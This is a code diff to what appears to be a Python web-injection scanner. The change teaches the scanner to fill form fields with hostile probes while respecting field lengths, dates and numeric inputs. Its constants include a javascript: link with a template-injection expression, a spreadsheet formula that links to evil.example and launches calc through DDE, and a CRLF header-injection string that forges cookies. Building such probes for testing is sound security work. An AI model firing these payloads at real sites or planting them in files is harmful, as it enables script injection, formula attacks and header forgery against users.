@@ -18,6 +18,9 @@ HTML: Final = (
 LINK: Final = f"javascript:alert('{MARK}')//{{{{7319*7}}}}"
 FORMULA: Final = f'=HYPERLINK("https://evil.example/?{MARK}","2")+cmd|\' /C calc\'!A0'
 BROKEN: Final = f'{MARK}\r\nX-Injected: 1\r\nSet-Cookie: injected=1\r\n\r\n{{"event": "forged"}}'
+DAY: Final = "28/02/2023"
+OF_DAYS: Final = "30"  # the length by which a form takes a day
+LONGEST: Final = 10_000
 HOSTILE: Final = (HTML, LINK, FORMULA, BROKEN)
 FETCHING: Final = {"href", "src", "action", "formaction", "data", "poster", "srcset", "hx-get", "hx-post", "xlink:href"}
 OWN_SCRIPTS: Final = ("/static/", "/lookup/code.js")
@@ -79,13 +82,24 @@ def _formulas(text: str) -> list[str]:
 
 
 class Form:
-    """A form of a page: where it goes, what it carries, and which of its fields take text."""
+    """A form of a page: where it goes, what it carries, which of its fields take text, how long, and which a day or number."""
 
     def __init__(self, action: str, method: str, page: str) -> None:
         self.action, self.method, self.page = action or page, method or "get", page
         self.carried: dict[str, str] = {}
-        self.typed: list[str] = []
+        self.typed: dict[str, int] = {}
+        self.strict: dict[str, str] = {}
         self.files: list[str] = []
+
+    @property
+    def key(self) -> tuple[str, ...]:
+        """What tells it from the other forms of all pages."""
+        return (self.action.partition("?")[0], *self.typed, *self.strict)
+
+    def filled(self, hostile: str, *, everywhere: bool = False) -> dict[str, str]:
+        """What is sent of it: as much of the text as a field takes; days and numbers as they should be, or that `everywhere`."""
+        text = {name: hostile[:longest] for name, longest in self.typed.items()}
+        return {**self.carried, **(dict.fromkeys(self.strict, hostile) if everywhere else self.strict), **text}
 
 
 class _Forms(HTMLParser):
@@ -107,7 +121,7 @@ class _Forms(HTMLParser):
         elif tag == "option" and self._select and given.get("value"):
             form.carried.setdefault(self._select, given["value"])
         elif tag == "textarea":
-            form.typed.append(name)
+            form.typed[name] = int(given.get("maxlength") or LONGEST)
         elif tag in ("input", "button") and name:
             match given.get("type", "text" if tag == "input" else "submit"):
                 case "hidden" | "radio" | "checkbox" | "submit":
@@ -116,8 +130,12 @@ class _Forms(HTMLParser):
                     form.files.append(name)
                 case "password":
                     form.carried[name] = "x"
+                case _ if given.get("inputmode") == "numeric":
+                    form.strict[name] = given.get("value") or "1"
+                case _ if given.get("maxlength") == OF_DAYS:
+                    form.strict[name] = given.get("value") or DAY
                 case _:
-                    form.typed.append(name)
+                    form.typed[name] = int(given.get("maxlength") or LONGEST)
 
     def handle_endtag(self, tag: str) -> None:
         if tag == "form":
